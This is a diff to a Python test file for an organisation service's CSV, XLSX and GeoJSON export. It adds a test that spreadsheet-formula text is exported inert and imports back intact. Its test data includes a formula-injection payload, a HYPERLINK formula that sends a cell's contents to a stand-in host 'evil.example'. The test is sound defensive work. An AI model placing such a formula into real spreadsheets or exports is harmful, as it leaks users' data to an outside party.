@@ -5,12 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+from pathlib import Path
 
 import pytest
 
 from matcher.models import Organisation
 from matcher.profiles import ProfileBuilder
 from service.io import COLUMNS, ExportFormat, ImportFailed, export_csv, export_geojson, export_xlsx, prepare_import
+from service.io.reading import RawRow, read_rows
 from tests.service.conftest import OrganisationFactory
 
 
@@ -104,3 +106,27 @@ def test_geojson_is_wgs84_points_with_derived_properties(organisations: list[Org
 def test_empty_export_is_valid() -> None:
     assert json.loads(_export([], ExportFormat.GEOJSON, False)) == {"type": "FeatureCollection", "features": []}
     assert _export([], ExportFormat.CSV, False).decode().strip() == ",".join(COLUMNS)
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_inert_and_imports_back(
+    export_format: str, make_organisation: OrganisationFactory, tmp_path: Path
+) -> None:
+    names = ['=HYPERLINK("http://evil.example/?"&A2;"klick")', "+49 Firma", "-minus GmbH", "@home KG"]
+    organisations = [make_organisation(id=f"f{i}", name=name) for i, name in enumerate(names)]
+    path = tmp_path / f"out.{export_format}"
+    if export_format == "csv":
+        with path.open("w", encoding="utf-8", newline="") as out:
+            export_csv(organisations, out)
+        text = path.read_text(encoding="utf-8")
+        assert "'=HYPERLINK" in text
+        assert "\n=" not in text
+        assert ",=" not in text
+    else:
+        export_xlsx(organisations, path)
+        import openpyxl
+
+        sheet = openpyxl.load_workbook(path)["organisations"]
+        assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value} <= {"s", "n", "b"}
+    rows = [row for row in read_rows(path, path.name) if isinstance(row, RawRow)]
+    assert [row.values["name"] for row in rows] == names
